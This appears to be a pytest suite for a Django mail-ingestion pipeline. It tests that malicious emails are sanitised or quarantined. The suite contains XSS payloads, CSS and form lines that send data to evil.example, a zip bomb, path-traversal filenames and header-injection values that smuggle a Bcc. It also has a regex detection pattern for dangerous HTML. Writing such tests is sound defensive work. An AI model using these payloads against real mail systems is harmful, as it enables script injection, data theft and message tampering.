"""Mail made to harm goes through the whole pipeline: nothing that runs is kept, and nothing else is held up."""

import base64
import io
import re
import time
import zipfile

import pytest

from conversations.models import Message
from integrations.inbound.mailbox import keep_mail
from integrations.inbound.process import process
from integrations.models import RawEvent
from integrations.simulators.mail_servers import MailServers
from tests.mailing import a_mail, connect, fetch

pytestmark = pytest.mark.django_db

EVENTS = (
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "onbegin",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
)
RUNS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    *(f'<img src=x {event}="alert(1)"><details open {event}=alert(1)>' for event in EVENTS),
    '<a href="javascript:alert(1)">x</a><a href="java\tscript:alert(1)">x</a><a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x.swf"></object><embed src="x.swf">',
    '<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<svg><foreignObject><body onload="alert(1)"></foreignObject></svg><math href="javascript:alert(1)">x</math>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
    '<form action="//evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example/b.css";</style>',
    '<div style="background:url(https://evil.example/?x)">a</div><style>input[value^="a"]{background:url(//evil.example)}</style>',
    '<div style="position:fixed;inset:0;z-index:9999">a cover</div><p style="behavior:url(#x)">x</p>',
    '<div style="width:expression(alert(1))">x</div><div style="b\\61 ckground:u\\72l(//evil.example)">x</div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<template><img src=x onerror="alert(1)"></template><isindex action="javascript:alert(1)">',
]
FORBIDDEN = re.compile(
    r"<(?:script|svg|math|iframe|object|embed|form|input|button|meta|base|link|style|template|noscript)\b"
    r"|<[^>]*\son\w+\s*=|(?:href|src)\s*=\s*[\"']?\s*(?:java|vb)script:|href=[\"']data:|data:image/svg|url\(|expression\("
    r"|position\s*:|z-index|@import",
    re.IGNORECASE,
)


@pytest.fixture
def mailbox(mail):
    return connect(mail)


def take(connector, body):
    raw, _ = keep_mail(connector, body)
    return process(raw.pk)


def html_mail(html, **headers):
    plain = a_mail(**headers).partition(b"\n\n")[0]
    plain = re.sub(rb"Content-T[^\n]*\n?(?:[ \t][^\n]*\n?)*", b"", plain).rstrip(b"\n")
    return plain + b"\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n" + html.encode()


@pytest.mark.parametrize("html", RUNS)
def test_nothing_that_runs_or_reports_home_is_kept(mailbox, html):
    assert FORBIDDEN.search(html)
    raw = take(mailbox, html_mail(f"<p>Before</p>{html}<p>After</p>"))
    assert raw.state == "done"
    message = Message.objects.get()
    assert not FORBIDDEN.search(message.html), message.html
    assert "Before" in message.text
    assert "<script" not in message.text.lower() or "alert" in message.text


def test_ten_thousand_nested_parts_do_not_hold_up_the_next_mail(mailbox):
    head = a_mail().partition(b"\n\n")[0]
    head = re.sub(rb"\nContent-[^\n]*|\nMIME[^\n]*", b"", head)
    nested = b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (n, n) for n in range(10_000))
    started = time.monotonic()
    raw = take(mailbox, head + b"\nMIME-Version: 1.0\n" + nested + b"Content-Type: text/plain\n\nDeep\n")
    assert raw.state in ("done", "aside")
    assert time.monotonic() - started < 30
    assert take(mailbox, a_mail("The next")).state == "done"


def test_ten_thousand_open_tags_are_read_as_text(mailbox):
    raw = take(mailbox, html_mail("<div>" * 10_000 + "Deep" + "</div>" * 10_000))
    assert raw.state == "done"
    assert "Deep" in Message.objects.get().text


def test_zip_bomb_stays_a_small_file(mailbox):
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", b"\0" * 50_000_000)
    raw = take(mailbox, with_file(bomb.getvalue(), "bomb.zip", "application/zip"))
    assert raw.state == "done"
    attachment = Message.objects.get().attachments.get()
    assert attachment.size == len(bomb.getvalue()) < 100_000


def with_file(content, name, kind):
    head = re.sub(rb"\nContent-[^\n]*|\nMIME[^\n]*", b"", a_mail().partition(b"\n\n")[0])
    parts = (
        '\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n'
        "--b\nContent-Type: text/plain\n\nSee.\n--b\n"
        f"Content-Type: {kind}\nContent-Transfer-Encoding: base64\n"
        f'Content-Disposition: attachment; filename="{name}"\n\n'
    )
    return head + parts.encode() + base64.encodebytes(content) + b"--b--\n"


@pytest.mark.parametrize(
    "name",
    ["../../../etc/passwd", "invoice\u202egpj.exe", "a\x00b.txt", "x" * 5000 + ".txt", "C:\\Windows\\x.dll", "", "."],
)
def test_file_names_that_lie_stay_inside_the_files_folder(mailbox, name, settings):
    raw = take(mailbox, with_file(b"abc", name, "application/octet-stream"))
    assert raw.state == "done"
    attachment = Message.objects.get().attachments.get()
    assert attachment.file.read() == b"abc"
    assert str(attachment.file.path).startswith(str(settings.MEDIA_ROOT))
    assert ".." not in attachment.file.name


@pytest.mark.parametrize(
    "header",
    [
        b"Subject: a\r\n b\r\nBcc: eve@evil.example\r\n",
        b"Subject: =?utf-8?q?Hello=0D=0ABcc:_eve@evil.example?=\r\n",
        b"Subject: =?utf-8?b?" + base64.b64encode(b"\x00\xed\xa0\x80x") + b"?=\r\n",
        b"Subject: " + b"a" * 500_000 + b"\r\n",
        b"References: " + b"<x@y> " * 50_000 + b"\r\n",
        b"To: " + b"a@b.example, " * 20_000 + b"\r\n",
        b"Date: Thu, 99 Foo 99999 99:99:99 +9999\r\n",
        b'Content-Type: text/plain; charset="../../x"\r\n',
        b"X" * 100_000 + b": y\r\n",
        b"\xff\xfe\x00: \x00\r\n",
    ],
)
def test_strange_heads_become_a_message_or_are_set_aside_alone(mailbox, header):
    body = b"From: Ann <ann@home.example>\r\n" + header + b"Message-ID: <odd@home.example>\r\n\r\nHello\r\n"
    raw = take(mailbox, body)
    assert raw.state in ("done", "aside")
    if raw.state == "done":
        message = Message.objects.get()
        assert not re.search("[\r\n\x00]", message.subject)
        assert message.conversation.participants.count() <= 50
    assert take(mailbox, a_mail("The next")).state == "done"


@pytest.mark.parametrize("body", [b"", b"\n\n\n", b"\x00" * 1000, bytes(range(256)) * 100, b"From: ", b"--\n" * 10_000])
def test_what_is_no_mail_is_set_aside_alone(mailbox, body):
    assert take(mailbox, body).state == "aside"
    assert take(mailbox, a_mail("The next")).state == "done"


def test_hostile_mails_between_good_ones_through_real_servers(mail):
    with MailServers({"support@hollinfell.example"}) as servers:
        connector = connect(mail, servers)
        servers.put(a_mail("First"))
        for html in RUNS[:6]:
            servers.put(html_mail(html))
        servers.put(b"Subject: from nobody\r\n\r\nHello\r\n")
        servers.put(a_mail("Last"))
        fetch(connector)
    assert RawEvent.objects.filter(state="aside").count() == 1
    assert {"First", "Last"} <= set(Message.objects.values_list("text", flat=True))
    assert Message.objects.count() == 8
